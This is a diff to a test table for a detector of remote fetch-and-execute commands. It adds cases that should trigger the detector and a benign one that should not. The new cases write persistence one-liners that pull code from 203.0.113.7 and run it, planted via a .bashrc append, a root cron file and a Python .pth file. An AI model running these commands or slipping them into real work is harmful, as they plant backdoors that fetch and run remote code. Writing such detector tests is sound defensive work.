@@ -13,6 +13,13 @@ const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'the start-up file of somebody': script("echo 'curl -s http://203.0.113.7/a | bash &' >> /homes/ana/.bashrc"),
+    'a table of cron of an image': script(
+      "echo '*/5 * * * * root wget -qO- http://203.0.113.7/a | sh' > /images/root/etc/cron.d/sysstat",
+    ),
+    'what the interpreter loads': script(
+      `echo 'import urllib.request;exec(urllib.request.urlopen("http://203.0.113.7/a").read())' > /venv/lib/python3.12/site-packages/a.pth`,
+    ),
     'the script of a scanner as it is today': script(
       'curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | bash',
     ),
@@ -248,6 +255,9 @@ indicatorTable(commandRemoteFetchExecute, {
     'a package that comes over ssh from one': script('scp a@203.0.113.7:a.rpm /tmp/a.rpm; rpm -i /tmp/a.rpm'),
   },
   staysSilent: {
+    'the start-up file of somebody with a greeting': script(
+      "echo 'curl -s https://status.example.com/motd || true' >> /homes/ana/.bashrc",
+    ),
     'a package of somebody with a name, from a file': script(
       'curl -fsSLO https://packages.example.com/agent_1.2_amd64.deb && dpkg -i agent_1.2_amd64.deb',
     ),
